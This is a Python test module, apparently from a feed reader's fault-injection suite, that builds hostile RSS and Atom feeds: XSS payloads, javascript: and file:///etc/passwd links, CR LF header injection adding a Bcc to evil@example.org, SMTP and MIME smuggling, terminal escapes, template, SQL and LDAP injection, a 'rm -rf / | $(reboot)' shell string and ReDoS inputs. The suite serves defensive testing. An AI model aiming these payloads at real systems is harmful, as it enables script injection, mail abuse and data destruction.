"""What entries smuggle: scripts, headers, templates, escape sequences, food for slow expressions, sheer size."""

from xml.sax.saxutils import escape

from tests.faults.fault import Document, document, numbers, rss
from tests.faults.server import Visit

_KIND, _SLOW = "content", "expressions"


def _titled(text: str) -> Document:
    """Return a document whose first entry has this text behind its title, as a title, and a second that has not."""
    return lambda visit: rss(visit.item(1, f"{visit.title(1)} {text}"), visit.item(2))


def _described(html: str) -> Document:
    """Return a document whose first entry has this HTML as text, and a second one that has not."""
    return lambda visit: rss(visit.item(1, more=f"<description>{escape(html)}</description>"), visit.item(2))


_BOTH = {"delivers": numbers(1, 2)}

for _link in (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,x",
    "vbscript:x",
    "file:///etc/passwd",
    "about:blank",
    "blob:x",
):

    def _make(visit: Visit, link: str = _link) -> str:
        shown = visit.rss(1).replace(f"<link>{visit.link(1)}", f"<link>{link}")
        return shown.replace("<link>https://example.org/</link>", f"<link>{link}</link>")

    document(_KIND, f"{_link!r} as link of feed and entry", is_quick=_link.startswith("javascript"))(_make)

for _name, _text in {
    "CR LF and a header, raw": "a\r\nBcc: evil@example.org\r\n\r\na body",
    "CR LF and a header, in an encoded word": "=?utf-8?q?a=0D=0ABcc:_evil@example.org=0D=0A?=",
    "CR LF and a header, in a base64 word": "=?utf-8?b?YQ0KQmNjOiBldmlsQGV4YW1wbGUub3JnDQo=?=",
    "an encoded word that is cut off": "=?utf-8?b?YQ0KQmNj",
    "line breaks that fake log lines": 'a\n{"event": "delivered"}\nlevel=error',
    "terminal escape sequences": "\x1b[2J\x1b]0;owned\x07 \x9b31m red",
    "template syntax": "{{ 7*7 }} {% for x in range(10**9) %} ${7*7} #{7*7} <%= 7*7 %>",
    "path traversal and shell": "../../../../tmp/x; rm -rf / | $(reboot) `reboot` > /dev/null",
    "SQL, LDAP and LIKE characters": "'; DROP TABLE entries; -- \" %_ *)(uid=*)) \\",
    "a title of 100 KB": "x" * 100_000,
    "a title of one word a thousand times": "AI " * 1000,
    "a dot alone on a line": "a\r\n.\r\nMAIL FROM:<evil@example.org>\r\n",
    "From_ at the start of a line": "\nFrom evil@example.org Sat Nov 28 2026",
    "a MIME boundary": "\n--===============1==\nContent-Type: text/html\n\n<script>alert(1)</script>",
}.items():
    _escaped = _titled(
        _text.replace("\r", "").replace("\x1b", "").replace("\x07", "") if "raw" in _name else _text
    )
    document(_KIND, _name, is_quick="header, " in _name, **_BOTH)(_escaped)


@document(_KIND, "CR LF and a header, as character references", is_quick=True, **_BOTH)
def _(visit: Visit) -> str:
    evil = "a&#13;&#10;Bcc: evil@example.org&#x0D;&#x0A;&#x0D;&#x0A;x"
    channel = f"<title>x{evil}</title><link>https://example.org/</link>"
    author = f"<author>{evil}</author><category>{evil}</category>"
    return rss(
        visit.item(1, more=author).replace("</title>", f" {evil}</title>"), visit.item(2), channel=channel
    )


document(_KIND, "template syntax is shown as it is", shows=("{{ 6*7 }}",), **_BOTH)(_titled("{{ 6*7 }}"))

for _html in (
    "<!-- ",
    "<plaintext>",
    "<title>",
    "<textarea>",
    "<script>",
    "<style>",
    "<noscript>",
    "<xmp>",
    "<select>",
    "<template>",
    "<svg><style>",
    "<math><mtext><table>",
    "</table></td></body></html>",
    "<div style='display:none'>",
    "<a href='https://example.org/unclosed",
    "<![CDATA[",
    "<table><tr><td>",
    "<base href='https://evil.example.org/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example.org/'>",
    "<form action='https://evil.example.org/'><input name=x>",
):
    document(
        _KIND,
        f"text that swallows what follows: {_html}",
        is_quick=_html in ("<!-- ", "<plaintext>"),
        **_BOTH,
    )(_described(f"before {_html} after"))
    if _html.startswith("<") and len(_html) < 14:
        document(_KIND, f"a title that swallows what follows: {_html}", **_BOTH)(_titled(_html))

for _html in (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<svg onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<math><a xlink:href='javascript:alert(1)'>x",
    "<<script>script>alert(1)<</script>/script>",
    "<img src='https://tracker.example.org/1.gif' width=1>",
    "<object data=x><embed src=x>",
    "<style>@import 'https://evil.example.org/x.css'</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
):
    document(_KIND, f"a script or picture in the text: {_html}", **_BOTH)(_described(_html))
    document(_KIND, f"and in the title: {_html}", **_BOTH)(_titled(_html))


@document(
    _KIND,
    "a script in content of type text/plain, xhtml and base64",
    delivers=numbers(1, 2, 3),
    content_type="application/atom+xml",
)
def _(visit: Visit) -> str:
    contents = (
        "<content type='text'>&lt;script&gt;alert(1)&lt;/script&gt;</content>",
        "<content type='xhtml'><div xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></div></content>",
        "<content type='image/svg+xml'>PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==</content>",
    )
    entries = "".join(
        f"<entry><title>{visit.title(n)}</title><id>{visit.link(n)}</id>{content}</entry>"
        for n, content in enumerate(contents, 1)
    )
    return f'<feed xmlns="http://www.w3.org/2005/Atom"><title>x</title>{entries}</feed>'


@document(_SLOW, "50,000 times 'a' and a '!', for (a+)+$", **_BOTH)
def _(visit: Visit) -> str:
    return rss(visit.item(1, more=f"<description>{'a' * 50_000}!</description>"), visit.item(2))


@document(_SLOW, "200 entries of food for (a+)+$", delivers=numbers(1, 2))
def _(visit: Visit) -> str:
    food = "".join(f"<item><title>{n} {'a' * 400}!</title><guid>{n}</guid></item>" for n in range(3, 203))
    return rss(visit.item(1), visit.item(2), food)


@document(_KIND, "a text of 3 MB with data: images", **_BOTH)
def _(visit: Visit) -> str:
    picture = f"<img src='data:image/png;base64,{'QUJD' * 25_000}'> some words "
    return rss(visit.item(1, more=f"<description>{escape(picture * 30)}</description>"), visit.item(2))


@document(_KIND, "a text of 3 MB of words", **_BOTH)
def _(visit: Visit) -> str:
    return rss(visit.item(1, more=f"<description>{'some words ' * 270_000}</description>"), visit.item(2))


@document(_KIND, "20,000 enclosures, 20,000 categories, 5,000 authors", **_BOTH)
def _(visit: Visit) -> str:
    more = "<enclosure url='https://example.org/a' length='1' type='a/b'/>" * 20_000
    more += "".join(f"<category>c{n}</category>" for n in range(20_000))
    more += "".join(f"<author>a{n}</author>" for n in range(5_000))
    return rss(visit.item(1, more=more), visit.item(2))


@document(_KIND, "a channel title of 100 KB with line breaks and a script", **_BOTH)
def _(visit: Visit) -> str:
    title = "a\n<script>alert(1)</script>" * 4000
    return rss(visit.item(1), visit.item(2), channel=f"<title>{escape(title)}</title>")


@document(_KIND, "an author with a script, and one of 100 KB", **_BOTH)
def _(visit: Visit) -> str:
    authors = f"<author>{escape('<script>alert(1)</script>')}</author><author>{'x' * 100_000}</author>"
    return rss(visit.item(1, more=authors), visit.item(2))


@document(_KIND, "a link that ends the attribute", **_BOTH)
def _(visit: Visit) -> str:
    evil = escape(visit.link(1) + "\"'><script>alert(1)</script>")
    return rss(visit.item(1).replace(f"<link>{visit.link(1)}", f"<link>{evil}"), visit.item(2))


@document(_KIND, "a link with a blank, line break and Chinese", **_BOTH)
def _(visit: Visit) -> str:
    return rss(
        visit.item(1).replace(f"<link>{visit.link(1)}", f"<link>{visit.link(1)}/中 文\n x"), visit.item(2)
    )


@document(_KIND, "a link whose user part names another host", **_BOTH)
def _(visit: Visit) -> str:
    return rss(visit.item(1).replace("<link>https://", "<link>https://bank.example.com@"), visit.item(2))
